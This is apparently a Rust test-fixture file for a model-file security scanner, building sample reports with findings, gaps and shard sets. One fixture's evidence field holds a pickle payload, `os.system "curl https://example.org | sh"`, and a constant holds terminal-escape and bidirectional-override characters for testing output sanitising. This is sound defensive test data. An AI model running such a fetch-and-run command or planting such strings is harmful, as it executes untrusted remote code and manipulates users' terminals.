//! Reports that show everything a report can hold.

use std::borrow::Cow;
use std::collections::BTreeMap;

use modelaudit::report::{
    Accepted, ArtifactReport, Coverage, Finding, Gap, Location, Place, Report, SCHEMA_VERSION,
    Severity, ShardRow, ShardSetReport, Stats, Summary, Survey, SurveyedFile, SurveyedSet, Tool,
    Verdict, Why,
};
use modelaudit::rules::{content, shards};

/// Text that wants to act on a terminal, as no engine should hand it over.
const HOSTILE: &str = "evil\x1b[2J\u{202e}name\n";

fn file(path: &str) -> Location {
    Location::file(path)
}

fn artifact(location: Location, formats: &[&str], coverage: [u64; 3]) -> ArtifactReport {
    let [swept, delegated, missed] = coverage;
    ArtifactReport {
        location,
        formats: formats.iter().map(|&format| format.to_owned()).collect(),
        strategy: "in-memory".into(),
        coverage: Coverage {
            len: swept + delegated + missed,
            swept,
            holes: 0,
            delegated,
            missed,
        },
        digests: BTreeMap::new(),
        accepted: Vec::new(),
        accepted_unlisted: 0,
    }
}

fn accepted(callable: &str, why: &str, calls: u64) -> Accepted {
    Accepted {
        callable: callable.into(),
        why: why.into(),
        calls,
    }
}

fn finding(rule: &'static modelaudit::rules::Rule, location: Location, message: &str) -> Finding {
    Finding {
        rule: rule.id.into(),
        severity: rule.severity,
        message: message.into(),
        evidence: String::new(),
        why: rule.why.into(),
        remedy: rule.remedy.into(),
        references: rule.references.iter().map(|&r| r.into()).collect(),
        fingerprint: format!("{:016x}", message.len() * 0x0101_0101),
        occurrences: 1,
        trace: Vec::new(),
        location,
    }
}

/// A finding of a rule that the catalogue does not have.
fn retired() -> Finding {
    Finding {
        rule: Cow::Borrowed("retired-rule"),
        severity: Severity::Critical,
        message: "the pickle calls `os.system` [click me](https://example.org) on load".into(),
        location: file("models/großes modell.pt")
            .member("archive/data.pkl")
            .at(Place::from(51..53)),
        evidence: "os.system \"curl https://example.org | sh\"".into(),
        why: "Whoever loads the file runs the command, with all of their own rights.".into(),
        remedy: "Do not load the file. Ask its publisher for safetensors.".into(),
        references: vec!["CWE-502".into(), "CVE-2025-1889".into()],
        fingerprint: "00112233445566778899aabbccddeeff".into(),
        occurrences: 12,
        trace: vec![
            "STACK_GLOBAL os.system".into(),
            "REDUCE with 1 argument".into(),
        ],
    }
}

fn findings() -> Vec<Finding> {
    let mut low = finding(
        &shards::EXTRA,
        file("set/stray.safetensors"),
        "1 file is extra",
    );
    low.evidence = "x".repeat(240);
    low.location = low.location.at(Place::from(5 << 30..6 << 30));
    let mut info = finding(
        &content::MISMATCH,
        file("notes.txt").at(Place::whole().within(HOSTILE)),
        "graded down for a stated reason",
    );
    info.severity = Severity::Info;
    let mut all = vec![
        low,
        info,
        finding(
            &shards::MISSING,
            file("set/model.safetensors.index.json"),
            "1 shard of the set `model` is not there: `model-00003-of-00003.safetensors`",
        ),
        finding(
            &content::POLYGLOT,
            file("/data/models/a b.zip")
                .member("inner.zip")
                .member(HOSTILE)
                .at(Place::from(7)),
            "the bytes are a zip archive and a pickle, and each loader that opens them sees only \
             one of the two",
        ),
        finding(
            &content::MISMATCH,
            file("models/großes modell.pt").at(Place::from(0..8)),
            "the name promises `torch-zip`, the content is `pickle`",
        ),
        retired(),
    ];
    all.sort_by(Finding::order);
    all
}

fn gap(location: Location, why: Why, detail: &str) -> Gap {
    Gap {
        location,
        why,
        detail: detail.into(),
    }
}

fn gaps() -> Vec<Gap> {
    vec![
        gap(
            file("/data/models/a b.zip").member("locked.bin"),
            Why::Encrypted,
            "the member is encrypted; unpack it with its password and scan the result",
        ),
        gap(
            file("set/model-00002-of-00003.safetensors").at(Place::from(4096..8192)),
            Why::Timeout,
            "the time limit was reached; allow more with --shard-timeout",
        ),
        gap(file(HOSTILE), Why::Unreadable, "permission denied"),
    ]
}

fn set() -> ShardSetReport {
    let row = |number: u32, verdict, covered, reason: Option<&str>| ShardRow {
        path: format!("set/model-0000{number}-of-00003.safetensors"),
        size: 8_697_308_774,
        strategy: "optimized".into(),
        verdict,
        covered,
        findings: 0,
        reason: reason.map(str::to_owned),
        seconds: 3.94,
    };
    ShardSetReport {
        name: "model".into(),
        family: "huggingface-safetensors".into(),
        index: Some("set/model.safetensors.index.json".into()),
        missing: vec!["set/model-00003-of-00003.safetensors".into()],
        extra: vec!["set/stray.safetensors".into()],
        total_size: 2 * 8_697_308_774,
        shards: vec![
            row(1, Verdict::Clean, 8_697_308_774, None),
            row(
                2,
                Verdict::Incomplete,
                4096,
                Some("the time limit was reached"),
            ),
        ],
    }
}

fn artifacts() -> Vec<ArtifactReport> {
    let model = file("models/großes modell.pt");
    let archive = file("/data/models/a b.zip");
    vec![
        ArtifactReport {
            digests: [("blake3".to_owned(), "0a".repeat(32))].into(),
            ..artifact(archive.clone(), &["zip"], [300, 100, 50])
        },
        artifact(archive.member("inner.zip"), &["zip", "pickle"], [100, 0, 0]),
        artifact(model.clone(), &["torch-zip", "zip"], [1_000, 2_000_000, 0]),
        ArtifactReport {
            accepted: vec![
                accepted(
                    "torch._utils._rebuild_tensor_v2",
                    "it rebuilds a tensor",
                    1_200,
                ),
                accepted("sklearn.svm._classes.SVC", "a class that stores numbers", 1),
            ],
            accepted_unlisted: 3,
            ..artifact(
                model.member("archive/data.pkl"),
                &["pickle"],
                [2_000_000, 0, 0],
            )
        },
        artifact(file("notes.txt"), &["opaque"], [12, 0, 0]),
        artifact(
            file("set/model-00001-of-00003.safetensors"),
            &["safetensors"],
            [8_697_308_774, 0, 0],
        ),
        artifact(
            file("set/model-00002-of-00003.safetensors"),
            &["safetensors"],
            [4096, 0, 8_697_304_678],
        ),
    ]
}

fn stats() -> Stats {
    Stats {
        seconds: 4.25,
        peak_memory_bytes: 34 << 20,
        workers: 4,
        memory_budget_bytes: 8 << 30,
        mmap_window_bytes: 500 << 20,
        reading: [("direct".to_owned(), 17_394_613_452)].into(),
    }
}

/// A report of these parts, whose totals are those of its lists.
pub fn report(findings: Vec<Finding>, gaps: Vec<Gap>, artifacts: Vec<ArtifactReport>) -> Report {
    let verdict = match (findings.is_empty(), gaps.is_empty()) {
        (false, _) => Verdict::Findings,
        (true, false) => Verdict::Incomplete,
        (true, true) => Verdict::Clean,
    };
    Report {
        schema_version: SCHEMA_VERSION.into(),
        tool: Tool {
            name: "modelaudit".into(),
            version: "1.2.3".into(),
        },
        verdict,
        exit_code: match verdict {
            Verdict::Clean => 0,
            Verdict::Findings => 1,
            Verdict::Incomplete => 2,
        },
        interrupted: false,
        summary: Summary::of(&findings, &gaps, &artifacts),
        findings,
        gaps,
        artifacts,
        shard_sets: Vec::new(),
        stats: stats(),
    }
}

/// Everything at once.
pub fn everything() -> Report {
    let mut report = report(findings(), gaps(), artifacts());
    report.shard_sets = vec![set()];
    report.summary.suppressed = 2;
    report
}

/// One file without a finding, covered to the last byte.
pub fn clean() -> Report {
    report(
        Vec::new(),
        Vec::new(),
        vec![artifact(
            file("model.safetensors"),
            &["safetensors"],
            [1 << 20, 0, 0],
        )],
    )
}

/// The same with a finding that does not reach the threshold.
pub fn below_threshold() -> Report {
    let mut low = report(findings(), Vec::new(), clean().artifacts);
    low.findings
        .retain(|finding| finding.severity == Severity::Low);
    low.summary = Summary::of(&low.findings, &[], &low.artifacts);
    low.verdict = Verdict::Clean;
    low.exit_code = 0;
    low
}

/// One file that ran out of time.
pub fn incomplete() -> Report {
    report(
        Vec::new(),
        vec![gap(
            file("m.bin"),
            Why::Timeout,
            "the time limit was reached",
        )],
        vec![artifact(file("m.bin"), &["opaque"], [999, 0, 1])],
    )
}

/// A survey of two files and a set.
pub fn survey() -> Survey {
    let row = |path: &str, size, tier: &str, strategy: &str, formats: &[&str]| SurveyedFile {
        path: path.into(),
        size,
        tier: tier.into(),
        strategy: strategy.into(),
        reading: "buffered".into(),
        window_bytes: 8 << 20,
        lanes: 2,
        formats: formats.iter().map(|&format| format.to_owned()).collect(),
    };
    Survey {
        schema_version: SCHEMA_VERSION.into(),
        files: vec![
            row(
                "a b.pt",
                12_345,
                "small",
                "in-memory",
                &["torch-zip", "zip"],
            ),
            row(
                "set/größe-00001-of-00002.gguf",
                60 << 30,
                "extreme",
                "mmap-windows",
                &[],
            ),
        ],
        shard_sets: vec![SurveyedSet {
            name: "größe".into(),
            family: "gguf".into(),
            index: None,
            shards: vec!["set/größe-00001-of-00002.gguf".into()],
            missing: vec!["set/größe-00002-of-00002.gguf".into()],
            total_size: 60 << 30,
        }],
        gaps: vec![gap(file(HOSTILE), Why::Unreadable, "permission denied")],
        bytes_total: (60 << 30) + 12_345,
        workers: 1,
        memory_budget_bytes: 1 << 30,
    }
}
